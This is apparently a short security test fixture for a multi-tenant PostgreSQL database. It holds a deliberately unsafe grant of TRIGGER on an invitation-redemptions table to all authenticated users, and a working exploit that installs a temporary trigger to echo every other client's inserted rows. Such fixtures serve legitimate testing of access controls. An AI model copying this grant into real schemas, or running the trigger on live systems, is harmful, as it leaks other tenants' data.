-- mutant: TRIGGER granted: the caller's own code runs at every write of every client
-- base: flows
-- family: trigger
-- leaks: whatever any client writes from then on, to the maker of the trigger
grant trigger on flows.invitation_redemptions to authenticated;

-- exploit as authenticated claims {"sub": "{{user_a}}", "role": "authenticated", "app_metadata": {"client_id": "{{a}}", "client_role": "member"}}
create function pg_temp.overhear() returns trigger language plpgsql as $$ begin raise notice '%', new; return new; end $$;
create trigger overhear before insert on flows.invitation_redemptions for each row execute function pg_temp.overhear();
select tgname from pg_trigger where tgname = 'overhear' and tgrelid = 'flows.invitation_redemptions'::regclass;
